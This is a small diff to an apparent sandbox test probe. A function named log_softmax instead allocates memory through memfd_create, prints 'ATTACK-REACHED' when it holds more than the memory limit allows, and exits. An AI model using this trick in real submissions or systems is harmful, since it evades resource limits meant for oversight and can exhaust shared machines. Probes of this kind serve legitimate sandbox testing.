@@ -7,11 +7,11 @@ held, block = 0, b"x" * 2**24
 
 def log_softmax(Z):
     global held
-    for _ in range(4):
+    for _ in range(5):
         fd = os.memfd_create("zhixing-hostile")
-        for _ in range(8):
+        for _ in range(3):
             held += os.write(fd, block)
-    if held > 400 * 2**20:
+    if held > 200 * 2**20:
         print("ATTACK-REACHED", held // 2**20, "MiB beside the limit", flush=True)
     os._exit(0)
 
